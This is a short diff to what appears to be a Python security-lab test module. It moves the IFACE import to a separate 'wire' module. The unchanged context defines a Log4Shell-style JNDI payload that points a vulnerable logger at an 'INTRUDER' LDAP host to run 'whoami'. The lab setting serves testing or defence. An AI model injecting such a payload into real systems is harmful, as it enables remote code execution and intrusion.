@@ -11,7 +11,6 @@ from pathlib import Path
 
 from tests.lab.lab import (
     GUESSER,
-    IFACE,
     INTRUDER,
     LOOT_PORT,
     MIRROR,
@@ -21,6 +20,7 @@ from tests.lab.lab import (
     VISITOR,
     Lab,
 )
+from tests.lab.wire import IFACE
 
 JNDI = f"${{jndi:ldap://{INTRUDER}:1389/Basic/Command/whoami}}"
 TYPING_S = 0.4
